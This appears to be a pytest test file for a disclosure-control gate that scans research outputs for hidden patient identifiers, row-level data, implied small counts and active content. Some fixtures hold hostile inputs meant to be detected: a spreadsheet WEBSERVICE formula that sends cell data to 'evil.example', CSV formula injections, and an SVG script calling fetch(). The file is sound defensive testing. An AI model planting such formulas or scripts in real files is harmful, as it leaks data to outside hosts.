"""Attack cases: identifying content wherever a file can hide it, each file built here.

Every case must give a ``fail`` (formulas: ``review``); each has a clean twin that must not fail,
so the checks are shown to tell the difference rather than to fail everything.
"""

from __future__ import annotations

import gzip
import struct
import zipfile

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from egress_gate import DEFAULT_POLICY, CheckContext, check_file

from .factories import pseudonym
from .hostile_files import png_text_chunk, tiny_png

KNOWN = pseudonym()
CONTEXT = CheckContext(pseudonyms=pa.array([KNOWN, pseudonym(), pseudonym()]))
NIR = "185077512345678"  # shape only; the valid-key one is made below


def valid_nir() -> str:
    body = "1850775123456"
    return body + f"{97 - int(body) % 97:02d}"


def worst(path, check: str | None = None) -> str:
    findings = check_file(path, DEFAULT_POLICY, CONTEXT)
    chosen = [f for f in findings if check is None or f.check == check]
    return max((f.outcome for f in chosen), key=lambda o: o.rank).value if chosen else "absent"


def failing(path) -> set[str]:
    return {f.check for f in check_file(path, DEFAULT_POLICY, CONTEXT) if f.outcome.value == "fail"}


# --- Parquet --------------------------------------------------------------------------------------

def aggregate_table() -> pa.Table:
    return pa.table({"age_band": ["40-49", "50-59", "60-69"], "n": [120, 95, 150]})


def test_parquet_key_value_metadata(tmp_path):
    clean, hidden, in_field = tmp_path / "clean.parquet", tmp_path / "meta.parquet", tmp_path / "field.parquet"
    pq.write_table(aggregate_table().replace_schema_metadata({"note": "age bands, counts rounded"}), clean)
    pq.write_table(aggregate_table().replace_schema_metadata({"patients": f"{KNOWN},{pseudonym()}"}), hidden)
    table = aggregate_table()
    field = table.schema.field("n").with_metadata({"source": f"NIR {valid_nir()}"})
    pq.write_table(table.cast(pa.schema([table.schema.field("age_band"), field])), in_field)
    assert worst(clean, "pseudonyms") != "fail" and "pseudonyms" not in failing(clean)
    assert "pseudonyms" in failing(hidden)
    assert "nir" in failing(in_field)
    # the finding says where
    found = [f for f in check_file(hidden, DEFAULT_POLICY, CONTEXT) if f.check == "pseudonyms" and f.outcome.value == "fail"]
    assert found[0].part.startswith("parquet metadata")


def test_parquet_column_name_holding_a_pseudonym(tmp_path):
    path = tmp_path / "t.parquet"
    pq.write_table(pa.table({"age_band": ["40-49"], KNOWN: [120]}), path)
    assert "pseudonyms" in failing(path)


# --- xlsx -----------------------------------------------------------------------------------------

def workbook(path, hide=None, comment=None, creator=None, defined=None, formula=None, custom=None):
    from openpyxl import Workbook
    from openpyxl.comments import Comment
    from openpyxl.workbook.defined_name import DefinedName

    wb = Workbook()
    ws = wb.active
    ws.title = "counts"
    for row in (("age_band", "n"), ("40-49", 120), ("50-59", 95)):
        ws.append(row)
    if comment:
        ws["B2"].comment = Comment(comment, "analyst")
    if creator:
        wb.properties.creator = creator
    if defined:
        wb.defined_names["contact"] = DefinedName("contact", attr_text=f'"{defined}"')
    if formula:
        ws["C2"] = formula
    if custom:
        from openpyxl.packaging.custom import StringProperty
        wb.custom_doc_props.append(StringProperty(name="reviewer", value=custom))
    if hide:
        hidden = wb.create_sheet("notes")
        hidden.append(("patient", "n"))
        hidden.append((hide, 12))
        hidden.sheet_state = "hidden"
    wb.save(path)
    return path


def test_xlsx_clean_workbook_does_not_fail(tmp_path):
    assert failing(workbook(tmp_path / "clean.xlsx", creator="analysis team")) == set()


@pytest.mark.parametrize("where", ["comment", "creator", "custom"])
def test_xlsx_pseudonym_in_comment_or_document_properties(tmp_path, where):
    path = workbook(tmp_path / f"{where}.xlsx", **{where: f"patient {KNOWN}"})
    assert "pseudonyms" in failing(path)


def test_xlsx_e_mail_in_a_defined_name(tmp_path):
    path = workbook(tmp_path / "names.xlsx", defined="jean.dupont@example.fr")
    assert "contact_details" in failing(path)


def test_xlsx_hidden_sheet_is_checked_and_reported(tmp_path):
    path = workbook(tmp_path / "hidden.xlsx", hide=KNOWN)
    findings = check_file(path, DEFAULT_POLICY, CONTEXT)
    assert any(f.check == "pseudonyms" and f.outcome.value == "fail" and f.part == "notes" for f in findings)
    assert any(f.check == "hidden_sheets" and f.outcome.value == "review" and "notes" in f.message for f in findings)


def test_xlsx_formula_needs_review(tmp_path):
    path = workbook(tmp_path / "formula.xlsx", formula='=WEBSERVICE("http://evil.example/?"&A2)')
    assert worst(path, "formulas") == "review"
    assert worst(workbook(tmp_path / "plain.xlsx"), "formulas") == "pass"


def test_csv_formula_cells_need_review_signed_numbers_do_not(tmp_path):
    formula = tmp_path / "f.csv"
    formula.write_text('label,n\n"=HYPERLINK(""http://x"",""y"")",120\n@SUM(A1:A2),130\n')
    signed = tmp_path / "s.csv"
    signed.write_text("label,change\nA,-2.5\nB,+3\n")
    assert worst(formula, "formulas") == "review"
    assert worst(signed, "formulas") == "pass"


# --- images ---------------------------------------------------------------------------------------

def test_png_rows_appended_after_the_end(tmp_path):
    clean, appended = tmp_path / "plot.png", tmp_path / "figure.png"
    clean.write_bytes(tiny_png(png_text_chunk("Software", "matplotlib version 3.9")))
    appended.write_bytes(tiny_png(trailing=b"age,sex,cause\n67,M,I21\n71,F,C34\n"))
    assert failing(clean) == set() and worst(clean) == "review"  # an image always needs a human
    assert "trailing_data" in failing(appended)


def test_png_text_chunk_holding_a_pseudonym(tmp_path):
    path = tmp_path / "plot.png"
    path.write_bytes(tiny_png(png_text_chunk("Comment", f"outlier: {KNOWN}")))
    assert "pseudonyms" in failing(path)


def jpeg(app1: bytes = b"", trailing: bytes = b"") -> bytes:
    segment = b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 if app1 else b""
    scan = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00" + b"\x12\xff\x00\x34"
    return b"\xff\xd8" + segment + scan + b"\xff\xd9" + trailing


def test_jpeg_exif_and_trailing_data(tmp_path):
    clean, exif, trailing = tmp_path / "a.jpg", tmp_path / "b.jpg", tmp_path / "c.jpg"
    clean.write_bytes(jpeg())
    exif.write_bytes(jpeg(b"Exif\0\0" + f"ImageDescription\0{KNOWN}".encode()))
    trailing.write_bytes(jpeg(trailing=b"PK\x03\x04hidden archive"))
    assert failing(clean) == set()
    assert "pseudonyms" in failing(exif) and worst(exif, "image_metadata") == "review"
    assert "trailing_data" in failing(trailing)


def test_svg_text_and_active_content(tmp_path):
    clean, text, script = tmp_path / "a.svg", tmp_path / "b.svg", tmp_path / "c.svg"
    clean.write_text('<svg xmlns="http://www.w3.org/2000/svg"><title>Age bands</title><rect width="4" height="9"/></svg>')
    text.write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><!-- {KNOWN} --><text x="1">n</text></svg>')
    script.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://x")</script></svg>')
    assert failing(clean) == set()
    assert "pseudonyms" in failing(text)
    assert "active_content" in failing(script)


# --- archives -------------------------------------------------------------------------------------

def test_archives_are_refused_whatever_their_name(tmp_path):
    archive = tmp_path / "outputs.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("t.csv", "a,n\nx,12\n")
    disguised = tmp_path / "table.csv"
    disguised.write_bytes(gzip.compress(b"age,n\n40-49,3\n"))
    assert "file_type" in failing(archive)
    assert "archive" in failing(disguised)


# --- row-level data whatever the size -------------------------------------------------------------

def deaths(rows: int = 60) -> str:
    rng = np.random.default_rng(3)
    causes = ["I21", "C34", "J44", "I64", "C18", "E11", "G30", "K70", "X70", "V89"]
    lines = [f"{rng.integers(30, 99)},{rng.choice(['M', 'F'])},{rng.integers(1, 96):02d},{rng.choice(causes)}"
             for _ in range(rows)]
    return "age_at_death,sex,department,cause\n" + "\n".join(lines) + "\n"


def test_one_row_per_person_in_a_small_table_fails(tmp_path):
    path = tmp_path / "deaths.csv"
    path.write_text(deaths())
    found = [f for f in check_file(path) if f.check == "row_level"]
    assert found[0].outcome.value == "fail" and "k-anonymity" in found[0].message


def test_repeated_label_combinations_without_counts_fail(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text("drug,side_effect\n" + "aspirin,bleeding\naspirin,bleeding\nstatin,myalgia\n" * 5)
    assert worst(path, "row_level") == "fail"


def test_a_mostly_unique_column_fails(tmp_path):
    path = tmp_path / "visits.csv"
    codes = [f"V{i:04d}" for i in range(40)] + ["V0001", "V0002"]
    path.write_text("visit_code,ward\n" + "".join(f"{c},{'AB'[i % 2]}\n" for i, c in enumerate(codes)))
    assert worst(path, "row_level") == "fail"


def test_aggregates_of_the_same_size_pass(tmp_path):
    grid = tmp_path / "grid.csv"
    grid.write_text("region,sex,n,mean_age\n" + "".join(f"R{r},{s},{50 + 5 * r},{40.5 + r}\n"
                                                         for r in range(30) for s in "MF"))
    means = tmp_path / "means.csv"
    means.write_text("region,sex,mean_age,mean_cost\n" + "".join(f"R{r},{s},{50 + r},{1000.5 + r}\n"
                                                                 for r in range(30) for s in "MF"))
    assert worst(grid, "row_level") == "pass"
    assert worst(means, "row_level") == "pass"


# --- implied counts by value relations, dominance with a largest-contributor column --------------------

def test_a_fraction_times_a_population_gives_a_small_count(tmp_path):
    path = tmp_path / "prevalence.csv"
    path.write_text("area,population,prevalence\nA,250,0.012\nB,4000,0.0425\nC,1200,0.05\n")
    assert worst(path, "implied_counts") == "fail"
    large = tmp_path / "large.csv"
    large.write_text("area,population,prevalence\nA,2500,0.012\nB,4000,0.0425\nC,1200,0.05\n")
    assert worst(large, "implied_counts") == "pass"


def test_a_rate_with_an_unusual_name_and_a_cohort_size(tmp_path):
    path = tmp_path / "rates.csv"
    path.write_text("site,cohort_size,rate_per_100\nA,250,1.2\nB,4000,4.25\nC,1200,5.0\n")
    assert worst(path, "implied_counts") == "fail"


def test_dominance_with_a_max_contributor_column(tmp_path):
    path = tmp_path / "spend.csv"
    path.write_text("hospital_group,total_spend,n_providers,max_contributor\nA,100000,40,92000\n"
                    "B,80000,35,9000\nC,60000,30,8000\n")
    found = {f.check: f for f in check_file(path)}
    assert found["dominance"].outcome.value == "fail" and found["dominance"].cells[0].row == 0
    safe = tmp_path / "safe.csv"
    safe.write_text("hospital_group,total_spend,n_providers,largest_payment\nA,100000,40,9000\n"
                    "B,80000,35,9000\nC,60000,30,8000\n")
    assert worst(safe, "dominance") == "pass" and worst(safe, "p_percent") == "pass"


@pytest.mark.parametrize("column,values", [("largest_share_pct", ("92.5", "30.1", "20.4")),
                                           ("top_provider_share", ("0.925", "0.301", "0.204"))])
def test_dominance_with_the_largest_share_given_as_a_column(tmp_path, column, values):
    path = tmp_path / "shares.csv"
    path.write_text(f"hospital,total_cost,{column}\n" + "".join(f"{h},{t},{v}\n" for h, t, v in
                                                                zip("ABC", (100000, 80000, 60000), values)))
    assert worst(path, "dominance") == "fail"



def test_text_variants_of_identifiers(tmp_path):
    """An upper-cased pseudonym, a NIR written with dots or dashes: still identifiers."""
    nir = valid_nir()
    dotted = f"{nir[0]}.{nir[1:3]}.{nir[3:5]}.{nir[5:7]}.{nir[7:10]}.{nir[10:13]}-{nir[13:]}"
    notes = tmp_path / "notes.txt"
    notes.write_text(f"outlier {KNOWN.upper()}\nNIR: {dotted}\n")
    assert {"pseudonyms", "nir"} <= failing(notes)
    cells = tmp_path / "cells.csv"
    cells.write_text(f"label,n\npatient {KNOWN.upper()} seen,120\n")
    assert "pseudonyms" in failing(cells)
